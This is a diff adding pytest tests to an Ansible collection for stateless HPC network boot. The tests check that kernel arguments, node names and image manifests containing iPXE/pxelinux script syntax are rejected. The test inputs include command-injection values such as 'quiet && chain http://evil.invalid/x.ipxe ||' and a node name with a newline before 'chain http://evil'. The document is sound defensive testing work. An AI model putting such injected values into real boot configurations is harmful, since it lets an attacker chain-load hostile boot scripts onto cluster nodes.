@@ -7,12 +7,13 @@ import re
 from pathlib import Path
 
 import pytest
-from bootlink_fixtures import make_pack, tree_snapshot
+from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot
 
 from ansible_collections.hpc.stateless.plugins.module_utils._paths import temp_name
 from ansible_collections.hpc.stateless.plugins.module_utils.deploy.bootconfig import (
     STATE_FILE,
     BootConfigError,
+    check_kernel_args,
     merge_args,
     normalise_mac,
     ramdisk_kib,
@@ -107,6 +108,80 @@ def test_merge_args_later_wins_per_key_and_console_device():
     assert merge_args("rdinit=/sbin/init ip=dhcp console=tty0 console=ttyS0,115200n8", "ip=none quiet",
                       "console=ttyS0 console=ttyS1,9600") == \
         "rdinit=/sbin/init ip=none console=tty0 console=ttyS0,115200n8 quiet console=ttyS1,9600"
+
+
+REAL_ARGS = ["console=ttyS0,115200n8", "console=tty0", "root=live:http://10.0.0.1/tftp/compute%2Bhsn~2/rootfs.squashfs",
+             "rd.live.image", "rd.neednet=1", "ip=dhcp", "ip=10.0.0.5::10.0.0.1:255.255.255.0:n1:eth0:off",
+             "BOOTIF=01-52-54-00-00-00-01", "initrd=compute+hsn~2/initrd", "rdinit=/sbin/init", "ramdisk_size=524288",
+             "crashkernel=256M@16M", "systemd.unit=rescue.target", "nohz_full=1-7", "quiet", "module_blacklist=a,b"]
+INJECTIONS = ["&&", "||", "chain;", "#", "${net0/ip}", "$x", "a{b}", 'a"b', "a'b", "a\\b", "a<b", "a>b", "`id`",
+              "a\x0bb", "a\x1bb", "a|b", "a&b"]
+
+
+def test_real_kernel_arguments_pass_unchanged():
+    for arg in REAL_ARGS:
+        assert merge_args(arg) == arg
+    assert check_kernel_args("\t" + " ".join(REAL_ARGS) + " ", "x") == " ".join(REAL_ARGS)
+
+
+@pytest.mark.parametrize("bad", INJECTIONS)
+def test_merge_args_refuses_script_syntax(bad):
+    with pytest.raises(BootConfigError, match=r"kernel arguments: kernel argument .* holds .*, which iPXE or pxelinux "
+                                              r"would read as script syntax"):
+        merge_args("rdinit=/sbin/init", f"quiet x{bad}y")
+    with pytest.raises(BootConfigError, match=r"^hpc_stateless_images.compute.kernel_args: kernel argument "):
+        check_kernel_args(f"quiet x{bad}y", "hpc_stateless_images.compute.kernel_args")
+
+
+def test_chain_injection_from_the_inventory_is_refused_naming_node_key_and_argument(root):
+    before = tree_snapshot(root)
+    injection = "quiet && chain http://evil.invalid/x.ipxe ||"
+    for params in ({}, {"validate_only": True}, {"check_mode": True}):
+        with pytest.raises(BootConfigError, match=r"^nodes\[0\] \(n0001\)\.kernel_args: kernel argument '&&' holds "
+                                                  r"'&', .*fix hpc_stateless_boot_kernel_args of the host$"):
+            run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": injection}], **params)
+        with pytest.raises(BootConfigError, match=r"^nodes\[0\] \(n0001\)\.kernel_args: kernel argument '\$\{x\}'"):
+            run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": ["quiet", "${x}"]}], **params)
+        images = {"compute": {"formats": ["cpio.zst"], "kernel_args": "quiet; chain http://evil.invalid/x.ipxe"}}
+        with pytest.raises(BootConfigError, match=r"^hpc_stateless_images.compute.kernel_args: kernel argument 'quiet;'"):
+            run(root, nodes(1), images=images, **params)
+    assert tree_snapshot(root) == before
+
+
+@pytest.mark.parametrize("option,value,message", [
+    ("ip", "dhcp&&chain", r"^ip: kernel argument 'ip=dhcp&&chain' holds '&'"),
+    ("ip", "dhcp quiet", r"^ip: kernel argument 'ip=dhcp quiet' holds ' '"),
+    ("rdinit", "/sbin/init#", r"^rdinit: kernel argument 'rdinit=/sbin/init#' holds '#'"),
+    ("boot_url", "http://10.0.0.1/${x}",
+     r"^boot_url 'http://10.0.0.1/\$\{x\}' \(hpc_stateless_boot_url\): the URL goes into iPXE's kernel line"),
+])
+def test_options_that_reach_the_kernel_line_are_checked(root, option, value, message):
+    before = tree_snapshot(root)
+    with pytest.raises(BootConfigError, match=message):
+        run(root, nodes(1), **{option: value})
+    assert tree_snapshot(root) == before
+
+
+def test_manifest_kernel_args_with_script_syntax_are_refused_naming_the_manifest(tmp_path):
+    """A squashfs pack's initrd arguments reach the kernel line: a (signed, even) manifest cannot bring a chain in."""
+    boot_root = tmp_path / "tftp"
+    apply_state({"boot_root": str(boot_root), "image": "compute", "state": "switched", "format": "squashfs",
+                 "src": str(make_pack(tmp_path / "out", version="v1", squashfs=True))})
+    v2 = make_pack(tmp_path / "out", version="v2", squashfs=True)
+    rewrite_manifest(v2, lambda manifest: manifest["initrd"].update(
+        kernel_args="root=live:<URL of the squashfs> rd.live.image && chain http://evil.invalid/x.ipxe ||"), relist=True)
+    images = {"compute": {"formats": ["squashfs"], "kernel_args": ""}}
+    before = tree_snapshot(boot_root)
+    with pytest.raises(BootConfigError, match=r"^image compute version v2: manifest.json initrd.kernel_args: kernel "
+                                              r"argument '&&' .*pack the image again"):
+        run(boot_root, nodes(1), images=images, boot_url="http://10.0.0.1/tftp", pending_manifests=[str(v2 / "manifest.json")])
+    assert tree_snapshot(boot_root) == before
+
+
+def test_node_name_with_a_line_break_is_refused(root):
+    with pytest.raises(BootConfigError, match=r"nodes\[0\]: name 'n1\\nchain http://evil' holds a line break"):
+        run(root, [{"name": "n1\nchain http://evil", "mac": "52:54:00:00:00:01"}])
+    assert not os.path.exists(root / "pxelinux.cfg")
 
 
 @pytest.mark.parametrize("size", [0, 1, 300 * 2**20, 256 * 2**20, 2**30 + 5])
